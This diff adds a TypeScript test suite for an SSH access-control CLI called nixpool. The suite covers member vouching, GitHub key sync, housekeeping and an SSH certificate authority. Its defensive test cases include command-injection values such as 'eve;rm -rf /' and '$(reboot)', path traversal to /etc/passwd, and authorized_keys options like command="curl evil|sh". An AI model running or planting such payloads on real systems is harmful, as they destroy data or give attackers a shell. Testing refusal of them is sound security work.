@@ -1,0 +1,369 @@
+import { after, before, describe, test } from "node:test";
+import assert from "node:assert/strict";
+import { mkdir, readFile, readdir, stat, utimes, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { run } from "../../src/adapters/runner.js";
+import { makeTempDir, runCli } from "../helpers/cli.js";
+import { startFakeGithub, type FakeGithub } from "../helpers/fake-github.js";
+
+async function newKey(dir: string, name: string): Promise<string> {
+  await run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", `${name}@test`, "-f", join(dir, name)]);
+  return (await readFile(join(dir, `${name}.pub`), "utf8")).trim();
+}
+
+/** Everything access control keeps, to prove that a refused command changed nothing. */
+async function snapshot(stateDir: string): Promise<string> {
+  const parts: string[] = [];
+  const walk = async (d: string) => {
+    for (const n of (await readdir(d).catch(() => [] as string[])).sort()) {
+      const p = join(d, n);
+      if ((await stat(p)).isDirectory()) await walk(p);
+      else parts.push(`${p}\n${await readFile(p, "utf8")}`);
+    }
+  };
+  await walk(stateDir);
+  return parts.join("\n---\n");
+}
+
+describe("access CLI", () => {
+  let tmp: { dir: string; cleanup: () => Promise<void> };
+  let state: string;
+  let gh: FakeGithub;
+  let aliceKey: string;
+  let daveKey: string;
+  const cli = (args: string[]) => runCli(state, args);
+
+  before(async () => {
+    tmp = await makeTempDir("nixpool-access-cli-");
+    state = join(tmp.dir, "state");
+    gh = await startFakeGithub();
+    aliceKey = await newKey(tmp.dir, "alice");
+    daveKey = await newKey(tmp.dir, "dave");
+    gh.setKeys("dave-gh", [daveKey]);
+    assert.equal((await cli(["access", "add", "alice", "--key", aliceKey, "--trusted"])).exitCode, 0);
+    const r = await cli(["access", "add", "dave", "--github", "dave-gh", "--vouched-by", "alice"]);
+    assert.equal(r.exitCode, 0, r.stderr);
+  });
+  after(async () => {
+    await gh?.stop();
+    await tmp?.cleanup();
+  });
+
+  test("hostile input is refused with a clear error and changes nothing", async () => {
+    const before = await snapshot(state);
+    const cases: [string[], RegExp][] = [
+      [
+        ["access", "add", "eve", "--key", `command="/bin/sh" ${aliceKey}`, "--vouched-by", "alice"],
+        /Key 1 for "eve" is refused: the key line starts with authorized_keys options/,
+      ],
+      [
+        ["access", "add", "eve", "--key", `${aliceKey}\nssh-ed25519 AAAA`, "--vouched-by", "alice"],
+        /newline/,
+      ],
+      [["access", "add", "eve;rm -rf /", "--vouched-by", "alice"], /User name "eve;rm -rf \/" is refused/],
+      [["access", "add", "$(reboot)", "--vouched-by", "alice"], /is refused/],
+      [["access", "add", "eve", "--github", "../../etc/passwd", "--vouched-by", "alice"], /GitHub handle/],
+      [["access", "add", "eve", "--key", aliceKey], /needs a member to vouch/],
+      [["access", "add", "eve", "--key", aliceKey, "--vouched-by", "dave"], /may not vouch/],
+      [["access", "add", "root", "--key", aliceKey, "--vouched-by", "alice"], /system account/],
+      [["access", "remove", "nobody-here"], /not listed/],
+    ];
+    for (const [args, re] of cases) {
+      const r = await cli(args);
+      assert.equal(r.exitCode, 2, `${args.join(" ")}: ${r.stderr}`);
+      assert.match(r.stderr, re);
+      assert.match(r.stderr, /^hint: /m);
+    }
+    assert.equal(await snapshot(state), before);
+  });
+
+  test("sync caches GitHub keys; down, slow, 429, 500 and oversized answers keep them", async () => {
+    gh.mode = "ok";
+    let r = await cli(["access", "sync", "--github-url", gh.url, "--json"]);
+    assert.equal(r.exitCode, 0, r.stderr);
+    const keyBlob = daveKey.split(" ")[1] ?? "";
+    const keysNow = async () => (await cli(["access", "keys", "dave"])).stdout;
+    assert.match(
+      await keysNow(),
+      new RegExp(
+        `^restrict,command="nix-daemon --stdio" ssh-ed25519 ${keyBlob.replace(/[+/]/g, "\\$&")} nixpool:dave$`,
+        "m",
+      ),
+    );
+    const indexBefore = await readFile(join(state, "access", "index", "dave"), "utf8");
+
+    const failures: [string, () => Promise<void>, RegExp][] = [
+      ["429", () => Promise.resolve(void (gh.mode = "429")), /rate limited/],
+      ["500", () => Promise.resolve(void (gh.mode = "500")), /HTTP 500/],
+      ["oversized", () => Promise.resolve(void (gh.mode = "oversized")), /larger than 65536 bytes/],
+      [
+        "slow",
+        () => {
+          gh.mode = "slow";
+          gh.slowMs = 5000;
+          return Promise.resolve();
+        },
+        /no answer within 300 ms/,
+      ],
+      [
+        "down",
+        async () => {
+          gh.mode = "ok";
+          await gh.setDown(true);
+        },
+        /ECONNREFUSED/,
+      ],
+    ];
+    for (const [what, makeIt, re] of failures) {
+      await makeIt();
+      r = await cli(["access", "sync", "--github-url", gh.url, "--timeout", "300", "--json"]);
+      assert.equal(r.exitCode, 3, `${what}: ${r.stderr}`);
+      const out = JSON.parse(r.stdout) as { handles: { status: string; keys: number; error: string }[] };
+      assert.equal(out.handles[0]?.status, "kept", what);
+      assert.equal(out.handles[0]?.keys, 1, what);
+      assert.match(out.handles[0]?.error ?? "", re, what);
+      assert.equal(await readFile(join(state, "access", "index", "dave"), "utf8"), indexBefore, what);
+      assert.match(await keysNow(), /nixpool:dave/, what);
+    }
+    await gh.setDown(false);
+    gh.mode = "ok";
+  });
+
+  test("a GitHub answer carrying options is refused as a whole", async () => {
+    gh.setKeys("dave-gh", [daveKey, `command="curl evil|sh" ${aliceKey}`]);
+    const r = await cli(["access", "sync", "--github-url", gh.url, "--json"]);
+    assert.equal(r.exitCode, 3);
+    assert.match(r.stdout, /line 2 is refused: the key line starts with authorized_keys options/);
+    assert.doesNotMatch(
+      (await cli(["access", "keys", "dave"])).stdout,
+      new RegExp((aliceKey.split(" ")[1] ?? "").slice(0, 30)),
+    );
+    gh.setKeys("dave-gh", [daveKey]);
+  });
+
+  test("NIXPOOL_GITHUB_URL is honoured, a 404 drops the keys, --write writes and prunes files", async () => {
+    const dir = join(tmp.dir, "authorized");
+    gh.keys.delete("dave-gh");
+    const r = await runCli(state, ["access", "sync", "--write", dir, "--json"], {
+      env: { NIXPOOL_GITHUB_URL: gh.url },
+    });
+    assert.equal(r.exitCode, 0, r.stderr);
+    assert.match(r.stdout, /"status": "gone"/);
+    assert.equal((await cli(["access", "keys", "dave"])).stdout, "");
+    assert.match(
+      await readFile(join(dir, "alice"), "utf8"),
+      /^restrict,command="nix-daemon --stdio" ssh-ed25519 \S+ nixpool:alice$/m,
+    );
+    gh.setKeys("dave-gh", [daveKey]);
+    assert.equal(
+      (await runCli(state, ["access", "sync", "--write", dir], { env: { NIXPOOL_GITHUB_URL: gh.url } }))
+        .exitCode,
+      0,
+    );
+    assert.match(await readFile(join(dir, "dave"), "utf8"), /nixpool:dave/);
+    await writeFile(join(dir, "operator"), "ssh-ed25519 AAAA mine\n");
+    assert.equal((await cli(["access", "remove", "dave"])).exitCode, 0);
+    assert.equal(
+      (await runCli(state, ["access", "sync", "--write", dir], { env: { NIXPOOL_GITHUB_URL: gh.url } }))
+        .exitCode,
+      0,
+    );
+    assert.deepEqual((await readdir(dir)).sort(), ["alice", "operator"]);
+    assert.equal((await cli(["access", "keys", "dave"])).stdout, "");
+    assert.equal(
+      (await cli(["access", "add", "dave", "--github", "dave-gh", "--vouched-by", "alice"])).exitCode,
+      0,
+    );
+  });
+
+  test("concurrent adds all land (the users file is locked)", async () => {
+    const names = Array.from({ length: 8 }, (_, i) => `member${i}`);
+    const results = await Promise.all(names.map((n) => cli(["access", "add", n, "--vouched-by", "alice"])));
+    for (const r of results) assert.equal(r.exitCode, 0, r.stderr);
+    const list = JSON.parse((await cli(["access", "list", "--json"])).stdout) as {
+      users: { name: string }[];
+    };
+    for (const n of names)
+      assert.ok(
+        list.users.some((u) => u.name === n),
+        n,
+      );
+    for (const n of names) assert.equal((await cli(["access", "remove", n])).exitCode, 0);
+  });
+
+  test("an expired member (hand-edited file) gets nothing once reindexed", async () => {
+    assert.equal(
+      (
+        await cli([
+          "access",
+          "add",
+          "gina",
+          "--key",
+          daveKey,
+          "--vouched-by",
+          "alice",
+          "--expires",
+          "2030-01-01",
+        ])
+      ).exitCode,
+      0,
+    );
+    assert.match((await cli(["access", "keys", "gina"])).stdout, /expiry-time="20300101000000Z"/);
+    const file = join(state, "users.toml");
+    await writeFile(
+      file,
+      (await readFile(file, "utf8")).replace("2030-01-01T00:00:00.000Z", "2020-01-01T00:00:00.000Z"),
+    );
+    assert.equal((await cli(["access", "sync", "--github-url", gh.url])).exitCode, 0);
+    assert.equal((await cli(["access", "keys", "gina"])).stdout, "");
+    const list = JSON.parse((await cli(["access", "list", "--json"])).stdout) as {
+      users: { name: string; active: boolean }[];
+    };
+    assert.equal(list.users.find((u) => u.name === "gina")?.active, false);
+  });
+
+  test("a hand-edited users file with an injected key is refused, and the index is untouched", async () => {
+    const file = join(state, "users.toml");
+    const good = await readFile(file, "utf8");
+    const indexBefore = await snapshot(join(state, "access", "index"));
+    await writeFile(
+      file,
+      good.replace(`keys = [ "${aliceKey}" ]`, `keys = [ 'no-pty,command="sh" ${aliceKey}' ]`),
+    );
+    const r = await cli(["access", "sync", "--github-url", gh.url]);
+    assert.equal(r.exitCode, 2);
+    assert.match(r.stderr, /users\.alice\.keys\[0\]: the key line starts with authorized_keys options/);
+    assert.equal(await snapshot(join(state, "access", "index")), indexBefore);
+    await writeFile(file, good);
+  });
+
+  test("the keys entry point answers only valid names and prints nothing for strangers", async () => {
+    const entry = join(import.meta.dirname, "../../dist/access/keys-command.js");
+    for (const user of ["../users.toml", "nobody-listed", "ALICE", "alice;id"]) {
+      const r = await run(["node", entry, "--state-dir", state, user], { reject: false });
+      assert.equal(r.exitCode, 0, user);
+      assert.equal(r.stdout, "", user);
+    }
+    const r = await run(["node", entry, "--state-dir", state, "alice"]);
+    assert.match(r.stdout, /nixpool:alice/);
+    assert.equal(
+      (await run(["node", entry, "--state-dir", state, "--principals", "alice"])).stdout,
+      "alice\n",
+    );
+  });
+
+  test("housekeeping: dry run lists, a real run removes only what is old", async () => {
+    const buildRoot = join(tmp.dir, "tmp");
+    const homeRoot = join(tmp.dir, "home");
+    const old = new Date(Date.now() - 10 * 86_400_000);
+    await mkdir(join(buildRoot, "nix-build-old.drv-0", "sub"), { recursive: true });
+    await writeFile(join(buildRoot, "nix-build-old.drv-0", "sub", "f"), "x");
+    await mkdir(join(buildRoot, "nix-build-new.drv-0"), { recursive: true });
+    await mkdir(join(buildRoot, "other-old"), { recursive: true });
+    await mkdir(join(homeRoot, "alice", ".ssh"), { recursive: true });
+    await writeFile(join(homeRoot, "alice", "big.iso"), "x");
+    await writeFile(join(homeRoot, "alice", "fresh.txt"), "x");
+    await mkdir(join(homeRoot, "stranger"), { recursive: true });
+    await writeFile(join(homeRoot, "stranger", "old"), "x");
+    for (const p of [
+      join(buildRoot, "nix-build-old.drv-0", "sub", "f"),
+      join(buildRoot, "nix-build-old.drv-0", "sub"),
+      join(buildRoot, "nix-build-old.drv-0"),
+      join(buildRoot, "other-old"),
+      join(homeRoot, "alice", "big.iso"),
+      join(homeRoot, "alice", ".ssh"),
+      join(homeRoot, "stranger", "old"),
+    ])
+      await utimes(p, old, old);
+    const args = [
+      "access",
+      "housekeeping",
+      "--max-age",
+      "7d",
+      "--build-root",
+      buildRoot,
+      "--home-root",
+      homeRoot,
+      "--json",
+    ];
+    const dry = await cli([...args, "--dry-run"]);
+    assert.equal(dry.exitCode, 0, dry.stderr);
+    const listed = (JSON.parse(dry.stdout) as { entries: { path: string }[] }).entries
+      .map((e) => e.path)
+      .sort();
+    assert.deepEqual(
+      listed,
+      [join(buildRoot, "nix-build-old.drv-0"), join(homeRoot, "alice", "big.iso")].sort(),
+    );
+    assert.ok((await readdir(buildRoot)).includes("nix-build-old.drv-0"));
+    const real = await cli(args);
+    assert.equal(real.exitCode, 0, real.stderr);
+    assert.deepEqual((await readdir(buildRoot)).sort(), ["nix-build-new.drv-0", "other-old"]);
+    assert.deepEqual((await readdir(join(homeRoot, "alice"))).sort(), [".ssh", "fresh.txt"]);
+    assert.deepEqual(await readdir(join(homeRoot, "stranger")), ["old"]);
+  });
+
+  test("ca: refuses before init, unknown users, private keys and hostile principals", async () => {
+    let r = await cli(["ca", "sign", "alice", "--key", join(tmp.dir, "alice.pub")]);
+    assert.equal(r.exitCode, 2);
+    assert.match(r.stderr, /No CA exists/);
+    assert.equal((await cli(["ca", "init"])).exitCode, 0);
+    assert.equal((await cli(["ca", "init"])).exitCode, 2);
+    assert.equal(((await stat(join(state, "ca", "ca_ed25519"))).mode & 0o777).toString(8), "600");
+    r = await cli(["ca", "sign", "mallory", "--key", join(tmp.dir, "alice.pub")]);
+    assert.match(r.stderr, /not an active member/);
+    r = await cli(["ca", "sign", "alice", "--key", join(tmp.dir, "alice")]);
+    assert.match(r.stderr, /is a private key/);
+    assert.doesNotMatch(r.stderr + r.stdout, /BEGIN OPENSSH/);
+    r = await cli(["ca", "sign", "alice", "--key", join(tmp.dir, "alice.pub"), "--principals", "alice,root"]);
+    assert.match(r.stderr, /system account/);
+    r = await cli(["ca", "sign", "alice", "--key", join(tmp.dir, "alice.pub"), "--validity", "+400d"]);
+    assert.match(r.stderr, /longer than 30 days/);
+    r = await cli([
+      "ca",
+      "sign",
+      "alice",
+      "--key",
+      join(tmp.dir, "alice.pub"),
+      "--out",
+      join(tmp.dir, "a1-cert.pub"),
+      "--json",
+    ]);
+    assert.equal(r.exitCode, 0, r.stderr);
+    r = await cli([
+      "ca",
+      "sign",
+      "alice",
+      "--key",
+      join(tmp.dir, "alice.pub"),
+      "--out",
+      join(tmp.dir, "a2-cert.pub"),
+      "--json",
+    ]);
+    assert.equal(r.exitCode, 0, r.stderr);
+    const serials = (
+      JSON.parse((await cli(["ca", "list", "--json"])).stdout) as { certificates: { serial: number }[] }
+    ).certificates.map((c) => c.serial);
+    assert.deepEqual(serials, [1, 2]);
+    const shown = (await run(["ssh-keygen", "-L", "-f", join(tmp.dir, "a2-cert.pub")])).stdout;
+    assert.match(shown, /Key ID: "nixpool:alice:2"/);
+    assert.match(shown, /Serial: 2/);
+    assert.match(shown, /force-command nix-daemon --stdio/);
+    assert.doesNotMatch(shown, /permit-pty|permit-port-forwarding/);
+    r = await cli(["ca", "revoke", "--serial", "2"]);
+    assert.equal(r.exitCode, 0, r.stderr);
+    const q = await run(
+      [
+        "ssh-keygen",
+        "-Q",
+        "-f",
+        join(state, "ca", "revoked.krl"),
+        join(tmp.dir, "a2-cert.pub"),
+        join(tmp.dir, "a1-cert.pub"),
+      ],
+      { reject: false },
+    );
+    assert.match(q.stdout, /a2-cert\.pub \(.*\): REVOKED/);
+    assert.match(q.stdout, /a1-cert\.pub \(.*\): ok/);
+  });
+});
